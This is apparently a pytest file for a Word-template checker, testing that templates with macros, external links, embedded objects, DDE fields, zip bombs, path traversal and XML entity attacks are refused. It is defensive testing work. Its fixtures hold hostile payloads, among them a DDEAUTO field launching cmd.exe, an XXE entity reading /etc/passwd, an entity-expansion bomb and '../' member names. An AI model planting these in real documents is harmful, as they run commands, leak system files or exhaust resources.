"""Files that swell, run something or reach outside are refused, each in a sentence, before anything of them works."""

import io
import zipfile

import pytest
from docx import Document

from hengl_uf.documents.refusals import TemplateRefused
from hengl_uf.documents.templates import check, fill
from tests.hengl_uf.documents.files import (
    RELATIONS,
    WORD,
    body,
    changed,
    rebuilt,
    related,
    saved,
    written,
)

PLAIN = written("{{ name }}")
BROKEN = "这个文件打不开：不是 Word 文档（docx），或者已经损坏。请在 Word 或 WPS 里另存为 docx 再传。"


def refusal_of(template: bytes) -> str:
    with pytest.raises(TemplateRefused) as refusal:
        check(template, {"name": ""})
    with pytest.raises(TemplateRefused):
        fill(template, {"name": "x"})
    return str(refusal.value)


@pytest.mark.parametrize(
    "content",
    [
        b"",
        b"text",
        b"%PDF-1.7",
        b"PK\x03\x04",
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" * 99,
        PLAIN[:-300],
        PLAIN[:900],
    ],
)
def test_what_is_no_word_file_is_refused(content):
    assert refusal_of(content) == BROKEN


def test_other_office_files_are_refused():
    sheet = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
    other = changed(PLAIN, "[Content_Types].xml", f"{WORD}.document.main+xml", sheet)
    assert refusal_of(other) == "这不是 Word 文档（docx）。请在 Word 或 WPS 里另存为 docx 再传。"


def test_a_missing_part_is_refused():
    assert refusal_of(related("footer", "footer9.xml", external=False)) == BROKEN


@pytest.mark.parametrize(
    "file",
    [
        changed(
            PLAIN,
            "[Content_Types].xml",
            f"{WORD}.document.main+xml",
            "application/vnd.ms-word.document.macroEnabled.main+xml",
        ),
        rebuilt(PLAIN, more={"word/vbaProject.bin": b"x"}),
        rebuilt(PLAIN, more={"word/activeX/activeX1.xml": b"<a/>"}),
    ],
)
def test_macros_and_controls_are_refused(file):
    assert refusal_of(file).startswith("模板带有宏或控件")


@pytest.mark.parametrize(
    ("kind", "target"),
    [
        ("image", "http://example.org/pixel.png"),
        ("image", "file://server/share/x.png"),
        ("header", "http://example.org/header.xml"),
        ("hyperlink", "file:///C:/Windows/x.exe"),
        ("hyperlink", "\\\\server\\share"),
        ("hyperlink", "javascript:x"),
    ],
)
def test_nothing_comes_from_elsewhere(kind, target):
    assert refusal_of(related(kind, target)).startswith("模板要从别处取内容")


def test_a_template_behind_the_template_is_refused():
    file = rebuilt(
        PLAIN,
        more={
            "word/_rels/settings.xml.rels": (
                '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
                f'<Relationship Id="rId1" Type="{RELATIONS}/attachedTemplate"'
                ' Target="http://example.org/evil.dotm" TargetMode="External"/></Relationships>'
            )
        },
    )
    assert refusal_of(file).startswith("模板要从别处取内容")


@pytest.mark.parametrize(
    "kind", ["oleObject", "package", "aFChunk", "subDocument", "control", "mailMergeSource"]
)
def test_embedded_files_are_refused(kind):
    assert refusal_of(related(kind, "http://example.org/x")).startswith("模板里嵌有别的文件")
    assert refusal_of(related(kind, "styles.xml", external=False)).startswith("模板里嵌有别的文件")


@pytest.mark.parametrize("target", ["https://example.org/", "mailto:a@example.org", "tel:076012345678"])
def test_plain_links_may_stay(target):
    check(related("hyperlink", target), {})


@pytest.mark.parametrize("tag", ["object", "altChunk", "control", "mailMerge"])
def test_embedded_objects_are_refused_in_the_text_too(tag):
    assert refusal_of(body(f"<w:p><w:r><w:{tag}/></w:r></w:p>")).startswith("模板里嵌有别的文件")


def test_old_drawings_fetch_nothing():
    drawing = (
        '<w:p><w:r><w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml">'
        '<v:imagedata src="http://example.org/pixel.png"/></v:shape></w:pict></w:r></w:p>'
    )
    assert refusal_of(body(drawing)).startswith("模板里有从网上取的图片")


def field(*pieces):
    runs = "".join(f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in pieces)
    return (
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        + runs
        + '<w:r><w:fldChar w:fldCharType="separate"/></w:r>'
        '<w:r><w:t>1</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )


@pytest.mark.parametrize(
    "xml",
    [
        field('DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc"'),
        field(" DDE", "AUTO x y"),
        field(" includepicture ", '"http://example.org/x.png"'),
        field(" INCLUDETEXT x"),
        field(" QUOTE 68 68 69"),
        field(" LINK Excel.Sheet x"),
        field(""),
        field("PAGE").replace('"separate"/>', '"begin"/>'),
        "<w:p><w:r><w:instrText>DDE x y</w:instrText></w:r></w:p>",
        '<w:p><w:fldSimple w:instr="DATABASE x"/></w:p>',
        '<w:p><w:fldSimple w:instr=""/></w:p>',
    ],
)
def test_fields_that_fetch_or_run_are_refused(xml):
    assert refusal_of(body(xml)).startswith("模板里有域“")


@pytest.mark.parametrize("code", ["PAGE", " NUMPAGES \\* MERGEFORMAT ", "date \\@ yyyy", "PAGEREF _Toc1 \\h"])
def test_fields_that_count_may_stay(code):
    check(body(field(code) + f'<w:p><w:fldSimple w:instr="{code}"/></w:p>'), {})


def test_a_bomb_is_not_unpacked():
    bomb = rebuilt(PLAIN, more={f"word/media/{number}.png": bytes(9 * 1024**2) for number in range(5)})
    assert len(bomb) < 200_000
    assert refusal_of(bomb).startswith("模板解开后异常庞大")


def test_a_part_that_swells_is_refused():
    bomb = rebuilt(PLAIN, {"word/document.xml": lambda content: content + b" " * 3 * 1024**2})
    assert refusal_of(bomb).startswith("模板解开后异常庞大")


def test_too_many_members_are_refused():
    assert refusal_of(rebuilt(PLAIN, more={f"x{number}": b"" for number in range(600)})).startswith(
        "模板解开后"
    )


def test_too_large_a_file_is_refused():
    assert refusal_of(PLAIN + bytes(5 * 1024**2)).startswith("模板超过 5 MB")


def test_a_member_that_lies_about_its_size_is_refused():
    file = bytearray(rebuilt(PLAIN, more={"word/media/1.png": b"x" * 5000}))
    place = file.rindex(
        b"word/media/1.png"
    )  # in the list at the end; the size stands 22 bytes before the name
    file[place - 22 : place - 18] = (10).to_bytes(4, "little")
    assert refusal_of(bytes(file)) == BROKEN


def test_two_members_of_one_name_are_refused():
    with pytest.warns(UserWarning, match="Duplicate"):
        twice = rebuilt(PLAIN, more={"word/document.xml": b"<x/>"})
    assert refusal_of(twice) == BROKEN
    assert refusal_of(rebuilt(PLAIN, more={"WORD/document.xml": b"<x/>"})) == BROKEN


@pytest.mark.parametrize("name", ["../x.xml", "/etc/x", "word/../../x"])
def test_members_lie_within(name):
    assert refusal_of(rebuilt(PLAIN, more={name: b"<x/>"})) == BROKEN


def test_strange_packings_are_refused():
    assert refusal_of(rebuilt(PLAIN, method=zipfile.ZIP_BZIP2)) == BROKEN


@pytest.mark.parametrize(
    "declaration",
    [
        '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>',
        '<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;">]>',
        '<!DOCTYPE x SYSTEM "http://example.org/x.dtd">',
    ],
)
@pytest.mark.parametrize("member", ["word/document.xml", "word/settings.xml", "docProps/core.xml"])
def test_declarations_are_refused(member, declaration):
    def declared(content):
        head, end, rest = content.partition(b"?>")
        return head + end + declaration.encode() + rest

    assert refusal_of(rebuilt(PLAIN, {member: declared})) == BROKEN


def test_other_encodings_are_refused():
    def as_utf16(content):
        text = content.decode().partition("?>")[2]
        return ('<?xml version="1.0" encoding="UTF-16" standalone="yes"?>' + text).encode("utf-16")

    assert refusal_of(rebuilt(PLAIN, {"word/document.xml": as_utf16})) == BROKEN


def test_a_picture_within_the_file_may_stay():
    from PIL import Image

    picture = io.BytesIO()
    Image.new("RGB", (20, 20)).save(picture, "PNG")
    document = Document()
    document.add_picture(picture)
    check(saved(document), {})
